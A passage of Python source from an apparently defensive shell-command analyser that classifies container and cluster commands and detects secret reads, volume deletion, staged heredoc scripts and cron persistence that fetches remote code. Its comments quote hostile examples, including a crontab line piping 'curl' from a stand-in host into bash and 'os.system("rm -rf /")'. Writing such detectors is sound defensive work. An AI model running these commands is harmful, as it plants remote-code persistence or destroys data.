        facts.add(C.IDENTITY, f"{program} adm policy changes who may do what")
        return
    if sub == "get" and any(a in ("secret", "secrets") or a.startswith("secret/") for a in args):
        facts.flags.add("secret_read")
        facts.add(C.SECRET, f"{program} get secret reads a secret")
    if _removes_volumes(sub, args):  # a service's stored data, not its containers
        facts.flags.add("volumes_removed")
        facts.add(C.DELETE, f"{program} {sub} removes data volumes")
        return
    if program in ("docker", "podman") and sub in _DOCKER_GROUPS:
        # ``docker volume ls``, ``docker compose ps``: the group's own command says what it does
        rest = args[args.index(sub) + 1 :]
        valued = _VALUED_OPTIONS | {"-f", "--file", "-p", "--project-name", "--env-file", "--profile"}
        sub = next(
            (
                a
                for i, a in enumerate(rest)
                if not a.startswith("-") and (i == 0 or rest[i - 1] not in valued)
            ),
            "",
        )
    if sub in ("rm", "rmi", "delete", "prune", "destroy", "kill", "down", "uninstall") or "prune" in args:
        facts.add(C.DELETE, f"{program} {sub} removes containers, volumes or resources")
    elif sub in ("run", "exec", "apply", "create", "up", "start", "install", "upgrade", "build", "deploy"):
        facts.add(C.EXECUTE, f"{program} {sub} runs workloads")
        if "--privileged" in args or any(a.startswith("-v/:/") or a in ("-v", "--volume") for a in args):
            facts.privileged = facts.privileged or "--privileged" in args
    elif sub in ("push",):
        facts.add(C.EGRESS, f"{program} push publishes an image")
    elif sub in _ORCHESTRATOR_READS or not sub:
        facts.add(C.READ, f"{program} {sub} reads state")
    else:  # rollout restart, scale, patch, set image, drain, stop …: the cluster changes
        facts.add(C.WRITE, f"{program} {sub} changes running workloads")


_DOCKER_GROUPS = frozenset(
    "volume image container network system compose builder buildx node service stack plugin context".split()
)


_VOLUME_KINDS = frozenset(
    "pvc pvcs persistentvolumeclaim persistentvolumeclaims pv pvs persistentvolume".split()
)


def _removes_volumes(sub: str, args: list[str]) -> bool:
    """``docker system prune --volumes``, ``docker volume rm|prune``, ``docker compose down -v``, ``kubectl
    delete pvc …``: the stored data of a service removed with its containers."""
    if sub == "volume":
        return any(a in ("rm", "remove", "prune") for a in args)
    if sub == "compose" or sub == "system":
        return ("down" in args or "prune" in args) and any(a in ("-v", "--volumes") for a in args)
    return sub == "delete" and any(a.split("/", 1)[0].lower() in _VOLUME_KINDS for a in args)


@functools.lru_cache(maxsize=4096)
def _analyse_cached(line: str, depth: int) -> ShellFacts:
    facts = ShellFacts()
    if depth > MAX_DEPTH:
        facts.add(C.EXECUTE, "nested shell")
        return facts
    folder = ""  # where a ``cd`` to an absolute path went: a relative delete after it is there
    for simple in simple_commands(line[:MAX_LINE]):
        before = len(facts.deleted)
        _judge(simple, facts, depth)
        facts.deleted[before:] = [_in_folder(folder, path) for path in facts.deleted[before:]]
        if simple.argv[:1] == ["cd"]:
            target = simple.argv[1] if len(simple.argv) > 1 else ""
            known = target.startswith(("/", "~/")) or (
                bool(folder) and not target.startswith(("-", "$", "~"))
            )
            folder = _in_folder(folder, target) if known else ""  # (``cd -``, ``cd $X``, ``cd``: unknown)
        if simple.heredoc and simple.redirects_out:
            # a script written by a heredoc: what it would do is kept as facts, not as what this line does
            staged = analyse(simple.heredoc, depth + 1)
            facts.flags |= {f"staged:{flag}" for flag in staged.flags}
    if "persistence" in facts.flags and depth < MAX_DEPTH:
        # what the scheduled entry runs (``echo "*/15 * * * * curl -fsSL http://x | bash" | crontab -``):
        # code fetched from the network on every run is remote code, not just persistence
        for entry in re.findall(r"[\"']([^\"']*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b[^\"']*)[\"']", line[:MAX_LINE]):
            if "remote_code" in analyse(re.sub(r"^(@\w+|(\S+\s+){5})", "", entry.strip()), depth + 1).flags:
                facts.flags.add("remote_code")
    if facts.privileged:
        facts.flags.add("privileged")
    return facts


def _in_folder(folder: str, path: str) -> str:
    """A relative path as seen from ``folder`` (``cd /srv/app && rm -rf backups`` removes /srv/app/backups);
    without a folder, or for a path of its own (absolute, home, a variable), the path as written."""
    if not folder or not path or path.startswith(("/", "~", "$", "-")) or "://" in path:
        return path
    return posixpath.normpath(posixpath.join(folder, path))


def analyse(line: str, depth: int = 0) -> ShellFacts:
    """What a shell line does (a fresh copy: callers may merge into it)."""
    cached = _analyse_cached(line, depth)
    copy = ShellFacts()
    copy.merge(cached)
    return copy


def analyse_code(code: str, depth: int = 0) -> ShellFacts:
    """What a snippet of code does (:mod:`detectors.capabilities.code`), as the same facts a shell line
    gets, with the shell lines it runs (``os.system("rm -rf /")``) judged here."""
    capabilities, lines, remote = code_facts(code)
    facts = ShellFacts()
    for capability, why in capabilities:
        facts.add(capability, why)
    facts.destinations += list(remote)
    for line in lines:
        facts.merge(analyse(line, depth + 1))
    return facts


def iter_programs(line: str) -> Iterator[str]:
    for simple in simple_commands(line):
        argv = _unwrap(list(simple.argv), ShellFacts())
        if argv:
            yield _basename(argv[0])
